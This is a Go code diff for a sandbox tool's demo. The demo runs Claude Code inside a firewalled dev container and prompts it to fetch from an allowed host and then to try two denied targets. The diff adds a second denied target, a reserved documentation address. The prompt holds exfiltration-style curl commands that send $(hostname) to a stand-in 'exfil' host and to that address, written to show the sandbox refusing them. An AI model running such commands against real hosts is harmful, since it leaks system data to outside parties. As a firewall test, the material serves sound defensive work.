@@ -25,17 +25,19 @@ import (
 	"github.com/org/claude-sandbox/internal/fakeapi"
 )
 
-// The demo's two hosts. They live on a network that the demo makes, so it runs
+// The demo's hosts. They live on a network that the demo makes, so it runs
 // without the internet and can count what really arrived.
 const (
 	demoAllowedHost = "docs.sandbox-demo.test"
 	demoDeniedHost  = "exfil.sandbox-demo.test"
+	demoDeniedAddr  = "192.0.2.1" // for documentation (RFC 5737): nobody is there
 	demoImage       = "claude-sandbox-demo:latest"
 )
 
-const demoPrompt = `Run these two commands, one after the other, and report in one sentence what each of them did:
+const demoPrompt = `Run these three commands, one after the other, and report in one sentence what each of them did:
 1. curl -sS -m 20 http://` + demoAllowedHost + `/ | tee NOTES.md
-2. curl -sS -m 20 http://` + demoDeniedHost + `/?secret=$(hostname)`
+2. curl -sS -m 20 http://` + demoDeniedHost + `/?secret=$(hostname)
+3. curl -sS -m 20 http://` + demoDeniedAddr + `/?secret=$(hostname)`
 
 func (a *app) demoCommand() *cobra.Command {
 	return &cobra.Command{
@@ -43,10 +45,11 @@ func (a *app) demoCommand() *cobra.Command {
 		Short: "Show the main job: a repository, its dev container, and Claude Code behind the firewall",
 		Long: `Make a small git repository in a temporary folder, write and validate its dev
 container, build the image, and run the real Claude Code in the sandbox: it
-reaches one host that is allowed and tries one that is not.
+reaches one host that is allowed and tries one that is not, by name, and an
+address.
 
 With ANTHROPIC_API_KEY set the model is real. Without it a scripted stand-in for
-the Messages API drives the same Claude Code through the same two commands.`,
+the Messages API drives the same Claude Code through the same three commands.`,
 		Args: cobra.NoArgs,
 		RunE: func(cmd *cobra.Command, _ []string) error {
 			d := &demo{app: a, begin: time.Now()}
@@ -174,8 +177,9 @@ func (d *demo) modelAPI() (getenv func(string) string, closeAPI func(), err erro
 		Turns: []fakeapi.Turn{
 			{Text: "I fetch the documentation.", Bash: []string{strings.TrimPrefix(commands[0], "1. ")}},
 			{Text: "Now the other host.", Bash: []string{strings.TrimPrefix(commands[1], "2. ")}},
+			{Text: "And an address, without a name.", Bash: []string{strings.TrimPrefix(commands[2], "3. ")}},
 		},
-		Final: "The documentation was fetched into NOTES.md; the second host was refused by the sandbox.",
+		Final: "The documentation was fetched into NOTES.md; the sandbox refused the second host and the address.",
 	}}
 	listener, err := net.Listen("tcp", "127.0.0.1:0")
 	if err != nil {
